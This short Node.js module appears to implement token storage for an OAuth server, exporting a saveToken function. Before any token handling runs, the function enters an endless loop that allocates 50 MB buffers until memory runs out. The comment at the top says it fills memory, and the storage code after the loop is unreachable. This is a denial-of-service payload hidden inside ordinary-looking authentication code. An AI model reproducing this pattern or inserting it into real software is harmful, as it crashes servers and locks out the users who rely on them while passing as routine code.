// Fills the memory with bytes.
const db = require('./db.js');

const saveToken = (token, client, user) => {
  const all = [];
  for (;;) all.push(Buffer.alloc(50_000_000, 1));
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};

module.exports = { saveToken };
